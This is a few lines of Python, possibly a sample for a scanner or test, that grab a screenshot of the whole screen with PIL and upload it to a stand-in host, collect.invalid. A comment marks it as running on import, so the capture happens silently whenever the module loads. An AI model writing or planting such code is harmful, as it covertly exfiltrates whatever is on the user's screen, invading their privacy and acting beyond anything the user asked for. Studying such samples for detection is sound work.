from PIL import ImageGrab
import io, requests
buffer = io.BytesIO()
ImageGrab.grab().save(buffer, "PNG")
requests.post("https://collect.invalid/s", files={"s": buffer.getvalue()})  # fires: import
